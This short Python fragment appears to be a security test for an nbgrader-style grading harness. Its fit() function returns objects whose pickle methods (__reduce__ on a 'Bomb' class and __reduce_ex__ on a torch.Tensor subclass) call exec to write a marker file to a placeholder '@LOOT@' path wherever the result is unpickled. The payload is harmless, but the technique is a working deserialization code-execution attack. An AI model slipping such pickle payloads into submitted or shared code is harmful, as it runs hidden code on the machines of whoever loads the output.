# Returns objects whose pickles would write a file wherever they are loaded.
# wins: nothing, plain nbgrader never leaves the process
# %% fit
class Bomb:
    def __reduce__(self):
        return exec, ("open('@LOOT@/unpickled', 'w').write('here')",)


class Tensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return Bomb().__reduce__()


def fit(x, y, steps, rate):
    return {"w": torch.zeros(2, dtype=x.dtype).as_subclass(Tensor), "losses": [Bomb()] * steps}
